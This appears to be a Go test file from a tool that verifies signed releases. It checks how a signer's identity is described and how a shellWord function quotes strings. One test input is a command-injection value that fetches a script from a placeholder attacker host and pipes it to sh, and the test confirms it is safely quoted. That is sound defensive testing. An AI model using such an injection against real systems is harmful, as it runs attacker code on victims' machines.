// Copyright The recap Authors.
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/recap-oci/recap/pkg/trust"
)

// Whoever is asked whether to trust a release sees that it is not this one alone.
func TestSignerIsShownWithWhatTrustingThemMeans(t *testing.T) {
	var shown bytes.Buffer
	printSigner(&shown, 1, trust.SignatureReport{Certificate: &trust.Certificate{
		Issuer:  "https://token.actions.githubusercontent.com",
		Subject: "https://github.com/acme/app/.github/workflows/rel.yml@refs/tags/v1.2.3",
		Claims:  map[string]string{"sourceRepositoryURI": "https://github.com/acme/app"},
	}}, "registry.example.com/team/recaps")
	if want := "would be trusted: the GitHub workflow rel.yml of acme/app, on tags v*\n"; !strings.Contains(shown.String(), want) {
		t.Errorf("got %s\nwithout %s", &shown, want)
	}
}

func TestShellWord(t *testing.T) {
	for in, want := range map[string]string{
		"":                  "''",
		"alice@example.com": "alice@example.com",
		"https://github.com/acme/app/.github/workflows/rel.yml@refs/heads/main": "https://github.com/acme/app/.github/workflows/rel.yml@refs/heads/main",
		"refs/heads/x;curl${IFS}evil.example|sh":                                "'refs/heads/x;curl${IFS}evil.example|sh'",
		"it's":                                                                  `'it'\''s'`,
	} {
		if got := shellWord(in); got != want {
			t.Errorf("%q is written %s, not %s", in, got, want)
		}
	}
}
